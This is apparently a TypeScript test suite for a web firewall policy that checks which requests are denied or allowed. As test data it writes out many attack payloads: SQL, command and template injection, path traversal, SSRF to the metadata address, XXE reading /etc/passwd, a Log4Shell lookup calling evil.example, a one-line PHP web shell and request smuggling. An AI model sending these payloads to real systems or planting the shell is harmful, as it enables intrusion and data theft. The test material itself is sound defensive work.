import { policySuite } from "sidewall/test";

const test = policySuite("policy.ts", { mode: "enforce" });
const query = (text: string) => ({ path: `/items?q=${encodeURIComponent(text)}` });
const json = (value: unknown) => ({ method: "POST", path: "/items", body: value as object });

// Each rule on one plain attack, where it would stand.
const attacks: Record<string, object> = {
  "sql-injection": query("1' or '1'='1"),
  "cross-site-scripting": query("<script>alert(1)</script>"),
  "command-injection": query("8.8.8.8; cat /etc/passwd"),
  "path-traversal": query("../../../../etc/passwd"),
  "file-inclusion": query("php://filter/convert.base64-encode/resource=index.php"),
  "request-forgery": json({ webhook: "http://169.254.169.254/latest/meta-data/" }),
  "template-injection": query("{{7*7}}{{config.items()}}"),
  "nosql-injection": json({ user: "a", password: { $ne: null } }),
  "ldap-injection": query("*)(uid=*))(|(uid=*"),
  "xpath-injection": query("' or count(/*)=1 or 'a'='b"),
  "xml-external-entity": { method: "POST", path: "/items", headers: { "content-type": "application/xml" }, body: `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>` },
  "expression-injection": { path: "/", headers: { "user-agent": "${jndi:ldap://evil.example/a}" } },
  "deserialisation": query(`O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}`),
  "code-injection": query("require('child_process').exec('id')"),
  "prototype-pollution": { method: "POST", path: "/items", headers: { "content-type": "application/json" }, body: `{"__proto__":{"isAdmin":true}}` },
  "header-injection": query("en\r\nSet-Cookie: session=1"),
  "request-smuggling": query("x\r\n\r\nGET /admin HTTP/1.1\r\nHost: a\r\n\r\n"),
  "web-shell": {
    method: "POST", path: "/files", headers: { "content-type": "multipart/form-data; boundary=b" },
    body: `--b\r\nContent-Disposition: form-data; name="file"; filename="c99.php"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n`,
  },
  "scanner": { path: "/", headers: { "user-agent": "sqlmap/1.8#stable (https://sqlmap.org)" } },
};
for (const [rule, request] of Object.entries(attacks)) test.deny(`${rule}: a plain attack`, request, { rule, status: 403 });

// The scenarios of an API under attack, and their look-alikes.
test.deny("SQL in a JSON string", json({ filter: { name: "x' UNION SELECT password FROM users-- " } }), { rule: "sql-injection" });
test.deny("SQL, percent-encoded twice", { path: "/items?q=1%2527%2520or%25201%253d1--" }, { rule: "sql-injection" });
test.deny("SQL in a cookie", { path: "/", headers: { cookie: "a=b; id=1' or '1'='1" } }, { rule: "sql-injection" });
test.deny("SQL in a GraphQL variable", json({ query: "query($id: ID!) { user(id: $id) { name } }", variables: { id: "1' or '1'='1" } }), { rule: "sql-injection" });
test.deny("SQL in a string of a GraphQL document", json({ query: "{ user(id: \"1' or '1'='1\") { name } }" }), { rule: "sql-injection" });
test.deny("SQL in a GraphQL multipart request", {
  method: "POST", path: "/graphql", headers: { "content-type": "multipart/form-data; boundary=b" },
  body: `--b\r\nContent-Disposition: form-data; name="operations"\r\n\r\n{"query":"mutation($f: Upload!) { add(f: $f, to: \\"1' or '1'='1\\") { id } }","variables":{"f":null}}\r\n--b--\r\n`,
}, { rule: "sql-injection" });
test.deny("SQL in a string of JSON in a query", query(JSON.stringify({ where: { id: "3 or sleep(5)=0" } })), { rule: "sql-injection" });
test.deny("SQL in a message of a queue, two strings deep", json({ Records: [{ body: JSON.stringify({ Type: "Notification", Message: JSON.stringify({ id: "1' or '1'='1" }) }) }] }), { rule: "sql-injection" });
test.allow("a message of a queue, two strings deep", json({ Records: [{ body: JSON.stringify({ Type: "Notification", Message: JSON.stringify({ bucket: "reports", keys: ["2026/11/21.csv"] }) }) }] }));
test.deny("JSON three strings deep", json({ a: JSON.stringify({ b: JSON.stringify({ c: JSON.stringify({ d: "e" }) }) }) }), { rule: "unreadable", status: 400 });
test.allow("brackets that are no JSON", json({ text: `${"[".repeat(80)} see "below"` }));
test.allow("a plain GraphQL document", json({ query: "query Names($id: ID!) { user(id: $id) { name, posts(first: 10, where: \"draft\") { title } } } # select what is shown", variables: { id: "7" } }));
test.deny("SQL in the name of a file", {
  method: "POST", path: "/files", headers: { "content-type": "multipart/form-data; boundary=b" },
  body: `--b\r\nContent-Disposition: form-data; name="file"; filename="a' or 1=1-- .png"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n`,
}, { rule: "sql-injection" });
const upload = (file: string, type: string, content: string) => ({
  method: "POST", path: "/files", headers: { "content-type": "multipart/form-data; boundary=b" },
  body: `--b\r\nContent-Disposition: form-data; name="file"; filename="${file}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--b--\r\n`,
});
test.deny("a script that says it is a picture", upload("me.php.png", "image/png", "<?php echo shell_exec($_GET['c']); ?>"), { rule: "web-shell" });
test.allow("a picture is not looked into", upload("me.png", "image/png", "' or 1=1--"));
test.allow("a note that says it is bytes", upload("note.txt", "application/octet-stream", "Please select a colour from the list; it's the one or the other."));
for (const name of ["O'Reilly", "please select a colour from the list", "How SQL injection works: never paste user input into a query."]) test.allow(`no SQL: ${name}`, json({ name }));
for (const path of ["/static/..%252f..%252fetc/passwd", "/a/..;/..;/admin", "/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"]) test.deny(`traversal: ${path}`, { path }, { rule: "path-traversal" });
test.allow("dots inside a name", { path: "/docs/v1..v2/diff" });
for (const url of ["http://0x7f.1/", "http://[::ffff:10.0.0.1]/", "http://2130706433/"]) test.deny(`forged: ${url}`, json({ url }), { rule: "request-forgery" });
test.allow("a partner's address", json({ url: "https://hooks.partner.example/orders?id=7" }));
test.deny("Log4Shell in pieces", { path: "/", headers: { referer: "${${lower:j}ndi:${lower:l}dap://x.example/a}" } }, { rule: "expression-injection" });
test.deny("Log4Shell in a JSON key", json({ "${jndi:dns://x.example}": 1 }), { rule: "expression-injection" });

test.deny("JSON that breaks off", { method: "POST", path: "/items", headers: { "content-type": "application/json" }, body: `{"a":` }, { rule: "unreadable", status: 400 });
test.deny("a coding that is not undone", { method: "POST", path: "/items", headers: { "content-type": "application/json", "content-encoding": "br" }, body: "{}" }, { rule: "ambiguous-body", status: 400 });
test.deny("a member that stands twice", { method: "POST", path: "/items", headers: { "content-type": "application/json" }, body: `{"role":"user","role":"admin"}` }, { rule: "ambiguous-body", status: 400 });
test.allow("fields that stand twice are common", { method: "POST", path: "/items", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "a[]=1&a[]=2&b=1&b=2" });
test.allow("the same names in several objects", json([{ id: 1, tag: { id: 2 } }, { id: 3 }]));
test.deny("what stands before the break is found", { method: "POST", path: "/items", headers: { "content-type": "application/json" }, body: `{"a":"1' or '1'='1",` }, { rule: "sql-injection" });
test.run();

const excluding = policySuite("policy.ts", { mode: "enforce", params: { "api-attacks.exclusions": ["detector=sql-injection place=query name=q"], "api-attacks.exempt-paths": ["/editor"] } });
excluding.allow("an exclusion takes a detector out, for one field", query("1' or '1'='1"));
excluding.deny("but not for another", { path: "/items?r=1'%20or%20'1'='1" }, { rule: "sql-injection" });
excluding.allow("nothing is looked for below an exempt path", { path: "/editor/save?r=1'%20or%20'1'='1" });
excluding.deny("but beside it", { path: "/editors?r=1'%20or%20'1'='1" }, { rule: "sql-injection" });
excluding.run();

const strict = policySuite("policy.ts", { mode: "enforce", params: { "api-attacks.ambiguities": ["form-duplicate"] } });
strict.deny("an anomaly that the configuration names", { method: "POST", path: "/items", headers: { "content-type": "application/x-www-form-urlencoded" }, body: "b=1&b=2" }, { rule: "ambiguous-body" });
strict.allow("and no other", { method: "POST", path: "/items", headers: { "content-type": "application/json" }, body: `{"a":1,"a":2}` });
strict.run();

const blocking = policySuite("policy.ts", { mode: "enforce", params: { "api-attacks.blocked": ["x-zero-day", "${brand-new"] } });
blocking.deny("a text that the configuration blocks, encoded", { path: "/a?q=X%252dZero%252dDay" }, { rule: "blocked" });
blocking.deny("likewise in JSON", json({ a: ["${brand-newer}"] }), { rule: "blocked" });
const matching = policySuite("policy.ts", { mode: "enforce", params: { "api-attacks.blocked-patterns": ["/\\bclass\\.(?:module|loader)\\b/i", "/^x-\\d{3,}$/"] } });
matching.deny("a pattern that the configuration blocks, encoded", { path: "/a?q=Class%252eModule%252ex" }, { rule: "blocked" });
matching.deny("likewise in JSON", json({ a: [{ b: "x-0042" }] }), { rule: "blocked" });
matching.allow("what is nearly one", json({ a: ["subclass.module", "x-42", "x-0042 "] }));
blocking.allow("and nothing else", query("zero day"));
blocking.run();
